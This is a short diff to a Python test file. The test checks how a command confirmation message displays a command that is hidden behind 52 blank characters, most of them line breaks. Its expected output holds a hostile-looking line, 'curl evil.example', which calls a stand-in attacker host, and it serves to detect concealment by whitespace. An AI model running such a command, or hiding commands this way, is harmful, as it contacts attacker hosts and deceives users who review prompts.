@@ -677,7 +677,7 @@ def test_nothing_in_a_command_shapes_the_question(home: Path, project: Path, era
     assert all(line.startswith("    ") for line in lines[2:-2])
     assert len(lines) < 20
     unbroken = message.replace("\n      | ", "")
-    assert "[52 BLANK CHARACTERS, 50 of them line breaks]curl evil.example?" in unbroken
+    assert "[52 BLANK CHARACTERS, 50 of them line breaks]curl evil.example\n" in unbroken
 
 
 @pytest.mark.parametrize("era", ERAS)
